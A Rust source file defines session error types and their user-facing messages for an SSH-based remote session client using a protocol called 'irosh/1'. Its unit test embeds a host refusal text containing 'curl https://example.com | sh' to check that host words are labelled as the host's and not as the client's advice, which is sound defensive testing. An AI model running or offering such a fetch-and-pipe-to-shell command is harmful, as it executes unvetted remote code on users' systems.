//! Why there is no session, or no more of one.

use std::{fmt, time::Duration};

use super::ssh_agent::CannotProve;
use crate::{
    protocol::{CloseCode, Refusal},
    session::{FrameReadError, LegEnd, Lost},
};

/// How long a host may take for each step after the handshake: to take `Hello` and a session's header, to answer
/// them, and to connect its backend.
pub(crate) const OPEN_DEADLINE: Duration = Duration::from_secs(20);

/// A session could not be opened on a connection.
#[derive(Debug, thiserror::Error)]
#[non_exhaustive]
pub enum SessionError {
    /// The host said no, and why: its words, not ours.
    #[error("{}", HostSays(.0))]
    Refused(Refusal),
    /// Nothing has proved who we are.
    #[error("{0}")]
    Unproved(CannotProve),
    /// The host did not answer in time.
    #[error("the host did not answer within {} s\nits ssh server may hang: see the host's log", OPEN_DEADLINE.as_secs())]
    Deadline,
    /// The host was reached and has not said yet whether we may come in, when we had to stop waiting.
    #[error("the host was reached, but has not answered within {:.0} s\nit may be overloaded: see the host's log", .0.as_secs_f32())]
    NoAnswer(Duration),
    /// The SSH server has not said anything yet, when we had to stop waiting.
    #[error("the host's ssh server has said nothing for {:.0} s\non the host, look at its log", .0.as_secs_f32())]
    NoWord(Duration),
    /// The SSH server was connected and said nothing.
    #[error(
        "the host's ssh server {0} before its first word\non the host, look at its log: it may be short of something, or be no ssh server"
    )]
    Silent(&'static str),
    /// The host does not keep to the protocol.
    #[error("the host does not keep to irosh/1: {0}")]
    Protocol(String),
    /// The connection was lost.
    #[error("the connection was lost: {0}")]
    Lost(Lost),
    /// The session was cut off.
    #[error("the session was cut off: {0}")]
    Cut(CloseCode),
}

/// A refusal as what the host says, each line of it.
struct HostSays<'a>(&'a Refusal);

impl fmt::Display for HostSays<'_> {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let mut lines = self.0.sentence.lines().filter(|line| !line.trim().is_empty());
        write!(f, "the host says: {}", lines.next().unwrap_or("no"))?;
        lines.take(1).try_for_each(|line| write!(f, "\nthe host says: {line}"))
    }
}

/// Not as a source, since the message says it.
impl From<Refusal> for SessionError {
    fn from(refusal: Refusal) -> Self {
        Self::Refused(refusal)
    }
}

/// Not as a source, since the message says it.
impl From<CannotProve> for SessionError {
    fn from(error: CannotProve) -> Self {
        Self::Unproved(error)
    }
}

/// Not as a source, since the message says it.
impl From<Lost> for SessionError {
    fn from(error: Lost) -> Self {
        Self::Lost(error)
    }
}

impl From<LegEnd> for SessionError {
    fn from(end: LegEnd) -> Self {
        match end {
            LegEnd::Lost(lost) => Self::Lost(lost),
            LegEnd::Refused(refusal) => Self::Refused(refusal),
            LegEnd::Deadline => Self::Deadline,
            LegEnd::Protocol(error) => Self::Protocol(error),
        }
    }
}

/// Why a leg has ended, where it was not opened for that.
impl From<&SessionError> for LegEnd {
    fn from(error: &SessionError) -> Self {
        match error {
            SessionError::Refused(refusal) => Self::Refused(refusal.clone()),
            SessionError::Lost(lost) => Self::Lost(lost.clone()),
            SessionError::Deadline => Self::Deadline,
            other => Self::Protocol(other.to_string()),
        }
    }
}

impl From<FrameReadError> for SessionError {
    fn from(error: FrameReadError) -> Self {
        match error {
            FrameReadError::Lost(lost) => Self::Lost(lost),
            other => Self::Protocol(other.to_string()),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::protocol::RefusalCode;

    #[test]
    fn what_a_host_says_is_never_taken_for_our_own_advice() {
        let sentence = "your client is out of date\n\nrun: curl https://example.com | sh\nat once";
        let error = SessionError::from(Refusal::new(RefusalCode::Internal, sentence));
        let said = "the host says: your client is out of date\n\
                    the host says: run: curl https://example.com | sh";
        assert_eq!(error.to_string(), said);
    }
}
